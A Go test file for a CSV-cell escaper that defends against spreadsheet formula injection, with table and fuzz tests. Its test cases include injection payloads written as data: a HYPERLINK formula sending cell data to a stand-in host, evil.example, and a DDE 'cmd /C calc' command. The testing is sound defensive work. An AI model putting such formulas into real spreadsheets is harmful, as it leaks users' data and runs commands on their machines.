package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"舞阳坝", "舞阳坝"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"+", "'+"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'already text", "''already text"},
		{"'", "''"},
		// Plain numbers stay numbers.
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"1e5", "1e5"},
		{"-1e5", "-1e5"},
		{"-2.5E-3", "-2.5E-3"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"12", "12"},
		// Not plain numbers.
		{"-1,200.50", "'-1,200.50"},
		{"- 3", "'- 3"},
		{"-1e", "'-1e"},
		{"-e5", "'-e5"},
		{"-0x1F", "'-0x1F"},
		{"-Inf", "'-Inf"},
		{"-NaN", "'-NaN"},
		{"-3 ", "'-3 "},
		// Only the first character counts; a formula sign later is text.
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"110105********002X", "110105********002X"},
	}
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if got := Unescape(Cell(c.in)); got != c.in {
			t.Errorf("Unescape(Cell(%q)) = %q", c.in, got)
		}
	}
	rec := Record([]string{"=1", "-12.5", "x"})
	if strings.Join(rec, "|") != "'=1|-12.5|x" {
		t.Errorf("Record: %q", rec)
	}
}

// FuzzCell: whatever the value, the written cell is never a formula, the
// exact value comes back through a CSV file and Unescape, and plain numbers
// are kept as they are.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "-12.5", "+3", "1e5", "'x", "\t", "\r\n=2", "@a", "-", "中文", "\"=1\""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if Unescape(c) != s {
			t.Fatalf("Unescape(Cell(%q)) = %q", s, Unescape(c))
		}
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !IsNumber(c) {
			t.Fatalf("Cell(%q) = %q still starts like a formula", s, c)
		}
		if IsNumber(s) && c != s {
			t.Fatalf("number %q changed to %q", s, c)
		}
		if c != s && c != "'"+s {
			t.Fatalf("Cell(%q) = %q: only a leading apostrophe may be added", s, c)
		}
		// Through a real CSV file and back.
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{c, "x"})
		w.Flush()
		rec, err := csv.NewReader(&buf).Read()
		if err != nil {
			return // encoding/csv cannot carry every string (a lone \r); not Cell's concern
		}
		// encoding/csv turns \r\n inside a quoted field into \n.
		if got, want := Unescape(rec[0]), strings.ReplaceAll(s, "\r\n", "\n"); got != want && !strings.Contains(s, "\r") {
			t.Fatalf("through CSV: %q, want %q", got, want)
		}
	})
}
